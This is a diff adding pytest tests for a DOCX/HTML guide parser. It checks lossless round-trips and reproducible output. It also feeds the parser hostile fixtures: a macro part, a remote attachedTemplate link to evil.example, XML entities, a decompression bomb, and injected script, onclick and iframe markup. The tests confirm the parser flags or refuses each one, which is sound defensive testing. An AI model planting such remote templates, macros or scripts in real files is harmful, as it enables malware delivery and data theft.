@@ -1,0 +1,155 @@
+"""The guide out and in again: what is written as HTML or DOCX is read back without loss, and the same book gives the same bytes."""
+
+from __future__ import annotations
+
+import io
+import time
+import zipfile
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from causeway.engines.guide import KEYS, normalise, parse
+from causeway.engines.guide.book import Book, BookCase, Chapter, Picture, Section, docx, html
+from causeway.engines.guide.sources import MOST_BYTES, Unreadable
+from causeway.engines.guide.template import LABELS
+from causeway.engines.guide.tests.samples import guide_text
+from causeway.engines.guide.tests.test_parse import copies
+
+
+def book_of(guide, language="en") -> Book:
+    """A book of what was read."""
+    chapters: dict[str, dict[str, list[BookCase]]] = {}
+    for case in guide.cases:
+        chapters.setdefault(case.chapter or "CASES", {}).setdefault(case.partner or "?", []).append(BookCase(case.heading or "", case.laid_out))
+    made = [Chapter(title, [Section(name, cases) for name, cases in sections.items()]) for title, sections in chapters.items()]
+    return Book("Practices of harbours & quays", made, "Second edition", "2026", "2026-11-26", language, "A. Nowak", "Harbour Press", "# Why\n\nBecause 1.1. works.\n\n2. Really.",
+                "To all.", "CC BY 4.0", "Nowak (2026)", [("HU", "Harbour University")])  # fmt: skip
+
+
+def content(guide):
+    return [(case.heading, case.partner, case.fields, case.date_iso) for case in guide.cases]
+
+
+@pytest.mark.parametrize("text", copies())
+@pytest.mark.parametrize("write", [docx, html])
+def test_what_goes_out_comes_in_again_without_loss(text, write):
+    guide = parse(text.encode())
+    written = write(book_of(guide))
+    again = parse(written if isinstance(written, bytes) else written.encode(), "guide.html")
+    assert again.problems == ()
+    assert content(again) == content(guide)
+    assert [case.number for case in again.cases] == [case.number for case in guide.cases]
+
+
+@pytest.mark.parametrize("language", LABELS)
+@pytest.mark.parametrize("write", [docx, html])
+def test_a_guide_in_every_language_comes_in_again(language, write):
+    guide = parse(guide_text().encode())
+    written = write(book_of(guide, language))
+    again = parse(written if isinstance(written, bytes) else written.encode())
+    assert (again.problems, content(again)) == ((), content(guide))
+
+
+@settings(max_examples=20, deadline=None)
+@given(st.dictionaries(st.sampled_from(KEYS), st.text(st.characters(codec="utf-8", exclude_categories=["Cs", "Cc"]), max_size=60), max_size=21))
+def test_whatever_is_typed_comes_back(fields):
+    fields = {key: " ".join(value.split()) for key, value in fields.items()}
+    fields = {key: value for key, value in fields.items() if normalise(value) == value and value}
+    book = Book("Guide", [Chapter("CASES", [Section("Partner", [BookCase("A heading", fields)])])])
+    for written in (docx(book), html(book).encode()):
+        read = parse(written).cases[0].fields
+        assert {key: value for key, value in read.items() if value} == fields
+
+
+def test_the_same_book_gives_the_same_bytes():
+    book = book_of(parse(guide_text().encode()))
+    assert docx(book) == docx(book) and html(book) == html(book)
+
+
+def test_a_picture_goes_along_with_what_it_shows():
+    case = BookCase("A heading", {"case_study_name": "A"}, pictures=[Picture(b"\x89PNG", "image/png", 'A "quay" & boats', "© HU", 40, 20)])
+    book = Book("Guide", [Chapter("CASES", [Section("Partner", [case])])])
+    with zipfile.ZipFile(io.BytesIO(docx(book))) as archive:
+        assert archive.read("word/media/image1.png") == b"\x89PNG"
+        assert "A &quot;quay&quot; &amp; boats" in archive.read("word/document.xml").decode()
+    assert 'alt="A &quot;quay&quot; &amp; boats"' in html(book)
+    assert len(parse(docx(book)).cases) == 1
+
+
+# --- files that are no guides, or no good ones ------------------------------------------------------------------------------------------
+
+
+def word(parts: dict[str, str | bytes]) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in parts.items():
+            archive.writestr(name, data)
+    return out.getvalue()
+
+
+def changed(name: str, data: str | bytes, book: Book | None = None) -> bytes:
+    """A written guide with one part replaced or added."""
+    with zipfile.ZipFile(io.BytesIO(docx(book or book_of(parse(guide_text().encode()))))) as archive:
+        parts = {one: archive.read(one) for one in archive.namelist()}
+    return word(parts | {name: data})
+
+
+def test_macros_are_told_and_the_text_is_read():
+    guide = parse(changed("word/vbaProject.bin", b"code"))
+    assert [one.code for one in guide.problems] == ["macros"] and len(guide.cases) == 3
+
+
+def test_what_a_document_would_fetch_is_told_and_not_fetched():
+    relations = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" TargetMode="External" '
+        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm"/></Relationships>'
+    )
+    guide = parse(changed("word/_rels/settings.xml.rels", relations))
+    assert [(one.code, one.text) for one in guide.problems] == [("external", "https://evil.example/t.dotm")] and len(guide.cases) == 3
+
+
+@pytest.mark.parametrize("bad, words", [
+    (b"", "empty"), (b"%PDF-1.7", "PDF"), (b"\xd0\xcf\x11\xe0 old", "old Word"), (b"PK\x03\x04 broken", "broken"), (word({"a.txt": "x"}), "no Word document"),
+    (b"\x01\x00\x07\x00" * 400 + bytes(range(256)), "binary"), (changed("word/document.xml", '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "entities"),
+    (changed("word/document.xml", "<w:document"), "broken"), (changed("word/document.xml", b"<a>" + b" " * 70_000_000 + b"</a>"), "bomb"),
+])  # fmt: skip
+def test_a_bad_file_is_refused_with_its_reason(bad, words):
+    with pytest.raises(Unreadable, match=words):
+        parse(bad)
+
+
+def test_a_file_of_500_megabytes_is_refused_at_once():
+    began = time.perf_counter()
+    with pytest.raises(Unreadable, match="MB"):
+        parse(b"x" * (MOST_BYTES + 1))
+    assert time.perf_counter() - began < 1
+
+
+def test_a_guide_of_another_shape_says_so_and_keeps_its_text():
+    guide = parse("A brochure about harbours.\n\nNothing here is a case.".encode())
+    assert [one.code for one in guide.problems] == ["no-case"] and "brochure about harbours" in guide.problems[0].text
+
+
+def test_scripts_of_a_page_are_told_and_never_text():
+    page = html(book_of(parse(guide_text().encode()))).replace(
+        "</body>", "<script>steal()</script><p onclick='x()'>End</p><iframe src='//e'></iframe></body>"
+    )
+    guide = parse(page.encode())
+    assert {one.code for one in guide.problems} == {"active"}
+    assert any("steal()" in one.text for one in guide.problems) and "steal" not in str([case.fields for case in guide.cases])
+    assert content(guide) == content(parse(guide_text().encode()))
+
+
+def test_the_plain_text_in_a_word_document_of_paragraphs_is_read_too():
+    lines = "".join(
+        "<w:p>"
+        + "<w:r><w:tab/></w:r>".join(
+            f'<w:r><w:t xml:space="preserve">{cell.replace("&", "&amp;").replace("<", "&lt;")}</w:t></w:r>' for cell in line.split("\t")
+        )
+        + "</w:p>"
+        for line in guide_text().split("\n")
+    )
+    document = f'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{lines}</w:body></w:document>'
+    assert content(parse(changed("word/document.xml", document))) == content(parse(guide_text().encode()))
